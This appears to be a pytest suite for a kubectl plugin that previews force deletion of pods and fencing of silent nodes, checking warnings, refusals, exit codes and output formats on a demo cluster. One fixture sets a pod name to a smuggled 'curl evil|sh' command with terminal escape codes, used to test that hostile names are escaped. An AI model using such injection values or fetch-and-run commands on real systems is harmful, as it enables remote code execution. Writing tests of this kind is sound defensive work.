"""partitions, delete, fence and unfence without a cluster: output, refusals and exit codes."""

from __future__ import annotations

import json
import re
from collections.abc import Sequence
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, Final

import jsonschema
import pytest

from cluster_io.demo import DEMO_NOW, demo_objects
from cluster_io.errors import Conflict, Forbidden, NotFound, RequestRefused, Unreachable
from cluster_io.kinds import PODS
from kubectl_plugin.exit_codes import print_error
from kubectl_plugin.render.command import Target
from kubectl_plugin.reports.schema import schema_of
from kubectl_plugin.reports.steps import Step, StepEvent, StepKind
from kubectl_plugin.views.pod.deletion import state_words
from kubectl_plugin.views.steps import step_line, step_words
from podrules.api.model.base import ObjectMeta
from tests.golden import check
from tests.kubectl_plugin.answers import check_texts, data, said
from tests.kubectl_plugin.edits import GOLDEN, find
from tests.kubectl_plugin.running import run, write_cluster

FORCE: Final = ("--grace-period=0",)
WHOLE: Final[dict[str, tuple[int, Sequence[str]]]] = {
    "partitions": (0, ["partitions", "--demo"]),
    "partitions-wide": (0, ["partitions", "--demo", "-o", "wide"]),
    "delete-silent": (3, ["delete", "--demo", "-n", "shop", "pod/db-1", *FORCE]),
    "delete-answering": (3, ["delete", "--demo", "-n", "shop", "pod/db-0", *FORCE]),
    "delete-own-grace-of-0": (3, ["delete", "--demo", "-n", "shop", "pod/price-feed"]),
    "fence": (3, ["fence", "--demo", "node/node-c3"]),
    "fence-answering": (9, ["fence", "--demo", "node/node-a1"]),
    "unfence": (0, ["unfence", "--demo", "node/node-c3"]),
}


def test_F1_force_deletion_preview_starts_with_safety() -> None:
    ran = run("delete", "pod/db-1", "-n", "shop", "--grace-period=0", "--demo", "-o", "json")
    verdict = json.loads(ran.out)["verdict"]
    assert verdict["severity"] == "trouble"
    assert verdict["text"] == (
        "Not safe yet: node-c3 is silent since 03:02:56 UTC, so its processes may still run, and StatefulSet db may "
        "start a second db-1: both would write to volume data (NFS, ReadWriteOnce: nothing keeps a second writer off). "
        "Safer: fence node-c3 once its machine is off. Not deleted: to delete it without grace, add --confirm."
    )


@pytest.mark.parametrize("name", WHOLE)
def test_F5_F6_whole_outputs(name: str) -> None:
    code, words = WHOLE[name]
    ran = run(*words)
    assert (ran.code, ran.err) == (code, "")
    prose = [line for line in ran.out.splitlines() if "kubectl " not in line]
    assert max(map(len, prose)) <= 80
    check(GOLDEN / f"safety-{name}.txt", ran.out)


@pytest.mark.parametrize(
    ("kind", "words"),
    [
        ("Partitions", ("partitions",)),
        ("PodDeletion", ("delete", "-n", "shop", "pod/db-1", *FORCE)),
        ("Fencing", ("fence", "node/node-c3")),
        ("Fencing", ("unfence", "node/node-c3")),
    ],
)
def test_F5_reports_fit_their_schema(kind: str, words: Sequence[str]) -> None:
    printed = data(*words, "--demo")
    assert (printed["apiVersion"], printed["kind"]) == ("kubectl-qos/v1", kind)
    jsonschema.Draft202012Validator(schema_of(kind)).validate(printed)


def test_F5_report_of_what_depends_on_the_node() -> None:
    node = data("partitions", "--demo")["nodes"][0]
    worst = node["pods"][0]
    assert (worst["name"], worst["risk"], worst["volumes"][0]["lock"]) == ("db-1", "TwoWriters", "None")
    assert [block["kind"] for block in worst["blocks"]] == ["StatefulSet"]
    assert [entry["used_by" if "used_by" in entry else "usedBy"] for entry in node["attachments"]] == ["data/broker-2"]


def test_F5_everything_answers(tmp_path: Path) -> None:
    nodes = [entry for entry in demo_objects() if entry["kind"] == "Node" and entry["metadata"]["name"] != "node-c3"]
    file = write_cluster(tmp_path / "nodes.json", nodes)
    ran = run("partitions", "--snapshot", file)
    assert (ran.code, ran.out.splitlines()[:2]) == (0, ["11 nodes", "ok All nodes answer."])


def _ready(objects: Sequence[Any], name: str) -> Any:
    """The condition Ready of a node."""
    return next(entry for entry in find(objects, f"Node/{name}")["status"]["conditions"] if entry["type"] == "Ready")


@pytest.mark.parametrize(
    ("unready", "pages", "text"),
    [
        pytest.param(
            ["node-a1"], ["node/node-c3", "node/node-a1"], "node-a1 is not Ready: its taints may delete pods.", id="one"
        ),
        pytest.param(
            ["node-a1", "node-a2", "node-a3", "node-b1"],
            ["node/node-c3", "4 nodes not Ready"],
            "node-a1, node-a2, node-a3 and 1 more are not Ready: their taints may delete pods.",
            id="more than are named",
        ),
    ],
)
def test_F5_unready_node_is_named_beside_silent_node(
    unready: Sequence[str], pages: Sequence[str], text: str, tmp_path: Path
) -> None:
    objects = [entry for entry in demo_objects() if entry["kind"] in {"Node", "Lease"}]
    for name in unready:
        _ready(objects, name).update(status="False", reason="KubeletNotReady")
    file = write_cluster(tmp_path / "nodes.json", objects)
    listed = said("partitions", "--snapshot", file)
    assert listed.startswith(
        f"x {len(unready) + 1} nodes are silent, not Ready or out of service, the worst first: node-c3"
    )
    assert [listed.index(page) for page in pages] == sorted(listed.index(page) for page in pages)
    check_texts(listed, (f"{pages[-1]} x {text}", f"kubectl qos node {unready[0]}"))
    verdict = data("partitions", "--snapshot", file)["verdict"]
    assert verdict["text"].startswith("node-c3: Silent for 8 min: ")
    assert verdict["text"].endswith(f" {text}")
    assert (verdict["code"], verdict["severity"]) == ("NodesLost", "trouble")
    wide = said("partitions", "--snapshot", file, "-o", "wide")
    assert [name for name in unready if name not in wide] == []


@pytest.mark.parametrize(
    ("words", "instead"),
    [
        (
            ("delete", "-n", "shop", "pod/db-1", *FORCE, "--confirm"),
            "leave --confirm out: --grace-period=0 alone shows",
        ),
        (
            ("delete", "-n", "shop", "pod/db-1", *FORCE, "--confirm", "--dry-run=server"),
            "leave --confirm and --dry-run out: --grace-period=0 alone shows",
        ),
        (("delete", "-n", "shop", "pod/db-0"), "--grace-period=0 alone shows"),
        (("delete", "-n", "shop", "pod/db-0", "--dry-run=server"), "leave --dry-run out: --grace-period=0 alone shows"),
        (("fence", "node/node-c3", "--confirm-powered-off"), "without a confirmation and --dry-run"),
        (("fence", "node/node-c3", "--fence-command=true", "--confirm"), "without a confirmation and --dry-run"),
        (("fence", "node/node-c3", "--dry-run=server"), "without a confirmation and --dry-run"),
    ],
)
def test_F6_demo_cluster_cannot_be_changed(words: Sequence[str], instead: str) -> None:
    ran = run(*words, "--demo")
    assert ran.code == 2
    assert ran.err.startswith(f"error: the demo cluster cannot be changed; {instead}")


_OUT_OF_SERVICE = {"key": "node.kubernetes.io/out-of-service", "value": "nodeshutdown", "effect": "NoExecute"}


def _snapshot(tmp_path: Path, objects: Sequence[Any]) -> tuple[str, str]:
    return "--snapshot", write_cluster(tmp_path / "cluster.json", objects)


def _fenced() -> list[dict[str, Any]]:
    objects = demo_objects()
    find(objects, "Node/node-c3")["spec"]["taints"].append({**_OUT_OF_SERVICE, "timeAdded": DEMO_NOW})
    return objects


def test_F6_fenced_node(tmp_path: Path) -> None:
    target = _snapshot(tmp_path, _fenced())
    removed = "5 pods are removed, and volumes are detached, without waiting for the machine."
    check_texts(said("partitions", *target), ("Declared out of service since", removed))
    asked = run("unfence", "node/node-c3", *target)
    assert asked.code == 3
    assert "Garbage collection would leave 5 pods Terminating that it removes now." in " ".join(asked.out.split())
    refused = run("unfence", "node/node-c3", *target, "--confirm")
    assert (refused.code, refused.err.splitlines()[0][:7]) == (2, "error: ")


def test_F6_fenced_node_shows_removed_and_remaining_pods(tmp_path: Path) -> None:
    objects = _fenced()
    stays = find(objects, "Pod/db-1")
    del stays["metadata"]["deletionTimestamp"]
    stays["spec"]["tolerations"] = [{"operator": "Exists"}]
    target = _snapshot(tmp_path, objects)
    listed = said("partitions", *target)
    assert "5 pods depend on it. 4 pods are removed, and volumes are detached" in listed
    assert "shop/db-1 stays, because the taint is tolerated: delete it with grace, and pod garbage collection" in listed
    none = "Force delete none of the 9 pods is safe: garbage collection removes what is deleted there, with grace too"
    assert f"{none} By itself" in listed
    asked = run("fence", "node/node-c3", *target)
    assert asked.code == 10
    text = " ".join(asked.out.split())
    assert "It is declared out of service: 4 pods and 1 volume still have to be removed" in text
    assert "monitoring/log-agent-fwj7l and shop/db-1 Budgets" in text
    check_texts(text, (), ("second writer off: data of shop/db-1", "in a minute"))
    assert "kubectl qos fence" not in said("delete", "pod/broker-2", "-n", "data", "--grace-period=0", *target)


@pytest.mark.parametrize("ready", ["True", "False"])
def test_F6_answering_out_of_service_node_is_not_silent(ready: str, tmp_path: Path) -> None:
    objects = demo_objects()
    taint = _OUT_OF_SERVICE | {"timeAdded": "2026-10-17T03:10:00Z"}
    find(objects, "Node/node-b1")["spec"]["taints"] = [taint]
    _ready(objects, "node-b1")["status"] = ready
    target = _snapshot(tmp_path, objects)
    pages = run("partitions", *target).out.split("node/node-")
    page = " ".join(next(page for page in pages if page.startswith("b1")).split())
    answers = "It answers again, but is not Ready: unfence it, and delete nothing there before."
    check_texts(page, answers if ready == "False" else "It answers again: unfence it", ("Unknown", "unreachable"))
    check_texts(said("fence", "node/node-b1", *target), "and answers again.", "becomes Unknown")
    assert "declared out of service" in run("explain", "node/node-b1", *target).out


def test_F6_pods_with_finalizers_remain(tmp_path: Path) -> None:
    objects = demo_objects()
    find(objects, "Pod/db-1")["metadata"]["finalizers"] = ["example.com/copy"]
    text = said("fence", "node/node-c3", *_snapshot(tmp_path, objects))
    check_texts(text, ("marks for deletion, but finalizers keep them: shop/db-1", "4 pods:"))
    find(objects, "Node/node-c3")["metadata"]["name"] = "node-c9"
    listed = said("partitions", *_snapshot(tmp_path, objects))
    assert "within 80 s garbage collection removes 8 pods, not their processes" in listed
    assert "1 pod marked for deletion and not removed: finalizers keep the object" in listed
    assert "Force delete none of the 9 pods is safe until you know that the machine is off By itself" in listed


def test_F5_overdue_steps_are_not_shown_as_future(tmp_path: Path) -> None:
    objects = demo_objects()
    find(objects, "Lease/node-b1")["spec"]["renewTime"] = "2026-10-17T03:08:00.000000Z"
    del find(objects, "Pod/db-1")["metadata"]["deletionTimestamp"]
    target = _snapshot(tmp_path, objects)
    listed = said("partitions", *target)
    assert "03:08:00 heartbeat > 03:08:50 should be Unknown (--node-monitor-grace-period), should be tainted" in listed
    assert "03:07:56 1 should be deleted (toleration over), 4 deleted > never ends" in listed
    assert listed.count("late check kube-controller-manager") == 2
    assert " not the others: node-b1 may still come back not safe yet: data/broker-1, " in listed
    timeline = said("explain", "pod/db-1", "-n", "shop", "--timeline=node-lost", *target)
    assert "Last heartbeat 03:02:04 UTC: deletion due since 03:07:56 UTC," in timeline
    not_lost = "Not fenced yet: it sends no heartbeats, but is not considered lost. It may"
    assert not_lost in said("fence", "node/node-b1", *target)


def test_F6_returning_node_is_not_fenced(tmp_path: Path) -> None:
    """Ready is still Unknown, and the Lease is renewed."""
    objects = demo_objects()
    find(objects, "Lease/node-c3")["spec"]["renewTime"] = "2026-10-17T03:10:58.318442Z"
    target = _snapshot(tmp_path, objects)
    listed = said("partitions", *target)
    assert "Coming back, Ready is still Unknown: 5 pods depend on it. It answers again: its machine is on." in listed
    assert re.search(r"(?<![\w/])-\d", listed) is None  # No time is before the present.
    assert "Force delete no need to: node-c3 answers, so delete with grace no promise is broken: " in listed
    check_texts(listed, " not safe: shop/db-1 and data/broker-2 By itself", "fence node/node-c3")
    asked = run("fence", "node/node-c3", *target)
    assert asked.code == 9
    assert "Not fenced: it answers." in asked.out
    check_texts(said("delete", "pod/db-1", "-n", "shop", "--grace-period=0", *target), "node-c3 answers again", "fence")
    assert data("explain", "pod/db-1", "-n", "shop", "--timeline", *target)["timeline"]["silent"] is False


def _hostile() -> list[dict[str, Any]]:
    objects = demo_objects()
    find(objects, "Pod/db-1")["metadata"]["name"] = "db-1;\x1b[2Jcurl evil|sh\u202e"
    node = find(objects, "Node/node-c3")
    node["metadata"]["name"], node["spec"]["taints"][0]["key"] = "node-c3\x1b[2J", "key\x1b[31m\nforged"
    for entry in objects:
        if entry["kind"] == "Pod" and entry["spec"].get("nodeName") == "node-c3":
            entry["spec"]["nodeName"] = "node-c3\x1b[2J"
    return objects


@pytest.mark.parametrize("form", ["table", "wide", "json", "yaml"])
def test_F5_hostile_names_are_escaped_and_in_no_command(tmp_path: Path, form: str) -> None:
    ran = run("partitions", *_snapshot(tmp_path, _hostile()), "-o", form)
    assert ran.code == 0
    assert "\x1b" not in ran.out
    assert "\u202e" not in ran.out
    assert not [line for line in ran.out.splitlines() if "kubectl qos" in line and ("curl" in line or "x1b" in line)]


WRONG_LINES: Final[Sequence[Any]] = [
    (("delete",), 2, "nothing to delete\nName a pod: kubectl qos delete pod/NAME\n"),
    (("delete", "deployment/web"), 2, '"deployment/web": this command is for a pod\nWrite pod/NAME, or NAME alone\n'),
    (("delete", "pod/a", "pod/b"), 2, "more than one name\nWrite one pod/NAME: each is checked before it is changed"),
    (("delete", "pod", "a", "b"), 2, "more than one name\nWrite one pod/NAME: each is checked before it is changed"),
    (("delete", "pod/../x"), 2, '"../x" is not a valid pod name'),
    (("delete", "pod/A%2f"), 2, '"A%2f" is not a valid pod name'),
    (("delete", "pod/db-0", "--grace-period=soon"), 2, '--grace-period "soon": not a grace period'),
    (
        ("delete", "pod/db-0", "--grace-period=-"),
        2,
        '--grace-period "-": not a grace period\nWrite seconds, 0 or more;',
    ),
    (("delete", "pod/db-0", "--grace-period=-9223372036854775809"), 2, "too large for an int64"),
    (("explain", "pod/db-0", "--grace-period=1"), 2, "--grace-period needs --timeline=delete or drain\nAdd"),
    (("explain", "pod/db-0", "--timeline=probe", "--grace-period=1"), 2, "--grace-period needs --timeline=delete"),
    (("delete", "pod/db-0", "--dry-run=client"), 2, '--dry-run "client": not one of server\n'),
    (("delete", "-n", "shop", "pod/db-9"), 8, 'no pod "db-9" in shop\nDid you mean pod/db-'),
    (("fence",), 2, "nothing to fence\nName a node: kubectl qos fence NODE\n"),
    (("fence", "pod/db-0"), 2, '"pod/db-0": this command is for a node\nWrite node/NAME, or NAME alone\n'),
    (("fence", "node/node-c3", "--confirm"), 2, "--confirm needs a fence command"),
    (
        ("fence", "node/x", "--confirm-powered-off", "--fence-command=true"),
        2,
        "--fence-command cannot be used with --confirm-powered-off",
    ),
    (("fence", "node/node-x"), 8, 'no node "node-x"'),
    (("unfence", "node/node-x"), 8, 'no node "node-x"'),
    (("unfence",), 2, "nothing to take back\nName a node: kubectl qos unfence NODE\n"),
    (("partitions", "node/x"), 2, '"node/x": kubectl qos partitions takes flags only'),
]


@pytest.mark.parametrize(("words", "code", "message"), WRONG_LINES)
def test_F2_wrong_command_lines(words: Sequence[str], code: int, message: str) -> None:
    ran = run(*words, "--demo")
    assert (ran.code, ran.out) == (code, "")
    assert message in ran.err


@pytest.mark.parametrize("command", ["partitions", "delete", "fence", "unfence"])
def test_F2_help_has_examples_and_exit_codes(command: str) -> None:
    ran = run(command, "--help")
    assert ran.code == 0
    assert "examples:" in ran.out
    assert "exit codes: 0 " in ran.out
    assert f"kubectl qos {command}" in ran.out


@pytest.mark.parametrize(
    ("error", "code"),
    [
        (NotFound(PODS, "x", "shop"), 3),
        (Forbidden("delete", PODS, "shop", ""), 4),
        (RequestRefused("a webhook says no"), 4),
        (Unreachable("no answer"), 5),
        (Conflict("another pod"), 9),
    ],
)
def test_F2_each_error_has_its_code(error: Any, code: int, capsys: pytest.CaptureFixture[str]) -> None:
    import sys

    assert print_error(error, sys.stderr) == code
    assert capsys.readouterr().err.splitlines()[0] == f"error: {error}"


NOW: Final = datetime(2026, 11, 21, 3, 12, 4, tzinfo=UTC)


def _steps(*kinds: StepKind) -> list[Step]:
    return [Step(NOW, kind, "pod/db-1", "node-c3", 0) for kind in kinds]


@pytest.mark.parametrize(
    ("kinds", "sure", "text"),
    [
        ((), True, "Nothing was changed."),
        ((StepKind.DELETING,), True, "Nothing was changed."),
        ((StepKind.DELETING,), False, "Unknown whether pod/db-1 was deleted: there was no answer."),
        ((StepKind.DELETING, StepKind.CONFIRMING, StepKind.CONFIRMED), True, "pod/db-1 carries the confirmation"),
        ((StepKind.DELETING, StepKind.DELETED), False, "pod/db-1 is deleted. Its object is removed once"),
        ((StepKind.DELETING, StepKind.DELETED, StepKind.NODE_SILENT), True, "kubectl qos fence node/node-c3"),
        ((StepKind.DELETED, StepKind.KEPT_BY_FINALIZERS), True, "is deleted and has stopped. Its object stays until"),
    ],
)
def test_F2_state_of_a_deletion(kinds: Sequence[StepKind], sure: bool, text: str) -> None:
    lines = state_words(ObjectMeta(name="db-1", namespace="shop"), _steps(*kinds), sure=sure)
    assert text in " ".join(map(Target().sentence, lines))


@pytest.mark.parametrize("kind", StepKind)
def test_F6_every_step_has_a_text(kind: StepKind) -> None:
    event = StepEvent(kind, "node/node-c3", "detail", 1, ("a", "b"))
    assert (words := step_words(event))
    assert step_line(event, NOW) == f"03:12:04 UTC  {words}"


def test_F6_step_names_are_joined_only_in_the_text() -> None:
    """A name with a comma is one name: no view splits a text."""
    event = StepEvent(StepKind.WAITING, "node/node-c3", number=0, names=("a, b", "c", "d", "e"))
    assert "waiting for a, b, c, d and 1 more " in step_words(event)
    assert event.record(NOW).detail == "a, b, c, d, e"
